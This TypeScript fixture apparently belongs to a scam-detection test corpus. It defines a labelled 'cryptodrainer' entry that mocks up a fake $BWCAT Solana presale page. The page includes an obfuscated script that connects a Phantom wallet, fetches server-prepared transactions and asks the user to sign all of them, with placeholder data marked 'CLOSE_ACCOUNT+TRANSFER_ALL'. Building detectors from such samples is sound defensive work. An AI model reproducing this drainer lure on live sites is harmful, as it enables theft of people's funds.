import { htmlRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute, pngRoute } from '../parts/e-bin.js';
import { doc } from '../parts/za-kit.js';

export const entries: Entry[] = [
  {
  id: 'za-drain-solana-meme-presale',
  label: 'cryptodrainer',
  kind: 'drainer',
  url: 'https://presale-bonkwifcat.fun/?ref=tg_alpha',
  body: doc({
    title: '$BWCAT Presale — Stage 3 | Bonk Wif Cat',
    css: `body{margin:0;background:linear-gradient(160deg,#14f195,#9945ff);font-family:Arial;color:#111}.c{max-width:420px;margin:40px auto;background:#fff;border-radius:20px;padding:24px}.pr{height:14px;background:#eee;border-radius:7px}.pr i{display:block;height:100%;width:86%;background:#9945ff;border-radius:7px}button{width:100%;padding:14px;border:0;border-radius:12px;background:#111;color:#fff;font-size:16px;margin-top:10px}input{width:100%;padding:12px;box-sizing:border-box;border:1px solid #ddd;border-radius:10px}`,
    body: `<div class="c"><h2>🐱 $BWCAT Presale Stage 3</h2><p>1 SOL = 412,000 $BWCAT · Listing on Raydium in 3 days · 100x potential 🚀</p><div class="pr"><i></i></div><p>Raised: 8,612 / 10,000 SOL</p><input id="amt" value="2" > SOL<button id="b">Connect Phantom</button><p id="s" style="font-size:12px"></p></div>
<script src="/js/presale.min.js"></script>`,
  }),
  routes: {
    'presale-bonkwifcat.fun/js/presale.min.js': jsRoute(`!function(){var _0x=['solana','connect','publicKey','toString','signAllTransactions','/api/tx?o='];var b=document.getElementById('b'),s=document.getElementById('s');
b.onclick=async function(){var p=window[_0x[0]]||(window.phantom&&window.phantom.solana);if(!p){s.textContent='Install Phantom wallet';return;}var r=await p[_0x[1]]();var pk=r[_0x[2]][_0x[3]]();
var tx=await (await fetch(_0x[5]+pk+'&amt='+document.getElementById('amt').value)).json();
s.textContent='Approve the transactions to receive your tokens';try{await p[_0x[4]](tx.txs)}catch(e){s.textContent='Transaction failed, please retry'}};}();`),
    'presale-bonkwifcat.fun/api/tx': jsonRoute({ txs: ['AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAB', 'AQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAC'], drain: 'CLOSE_ACCOUNT+TRANSFER_ALL' }),
  },
},
];
